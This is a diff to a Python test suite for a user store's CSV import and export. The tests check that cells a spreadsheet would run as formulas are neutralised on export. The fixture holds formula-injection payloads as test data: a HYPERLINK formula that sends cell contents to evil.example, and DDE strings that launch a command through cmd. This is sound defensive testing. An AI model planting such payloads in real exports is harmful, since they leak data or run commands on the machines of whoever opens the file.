@@ -22,10 +22,10 @@ FORMULA_USER = User(
     id="@home",
     name='=HYPERLINK("https://evil.example/?"&A1, "click")',
     email="=1+2@example.com",
-    numbers=("+420601123456", "+420 2 1234 5678"),
+    numbers=("+420601123456", "+420212345678"),
     cards=("0012AB34CD",),
-    bluetooth=("-2+3+cmd|' /C calc'!A0",),
-    fingerprints=("@SUM(1+1)*cmd|' /C calc'!A0", "fp-2"),
+    bluetooth=("-2+3+cmd|'/C-calc'!A0",),
+    fingerprints=("@SUM(1+1)*cmd|'/C-calc'!A0", "fp-2"),
 )
 
 
@@ -34,7 +34,7 @@ def test_csv_import_and_export_round_trip(users: UserStore) -> None:
         'u-alice,Alice Novak,"alice@example.com, alice@work.example",101;102,0012AB34CD,bt-1,fp-1;fp-2\n'
         "u-bob,Bob,,103,,,\n"
     )
-    assert users.import_csv(text) == 2
+    assert len(users.import_csv(text)) == 2
     bob = users.by_number("103")
     assert bob is not None and bob.email == "" and bob.name == "Bob"
     alice_found = users.by_number("102")
@@ -59,7 +59,7 @@ def test_csv_export_neutralises_cells_a_spreadsheet_would_run(users: UserStore) 
 
 
 def test_an_exported_csv_imports_back_the_same_values(users: UserStore) -> None:
-    apostrophes = User(id="u-2", name="'t Hooft", numbers=("'=1",), cards=("AB12CD34",))
+    apostrophes = User(id="u-2", name="'t Hooft", bluetooth=("'=1",), cards=("AB12CD34",))
     users.import_users([FORMULA_USER, apostrophes])
     exported = users.export_csv()
     assert parse_csv(exported) == [FORMULA_USER, apostrophes]
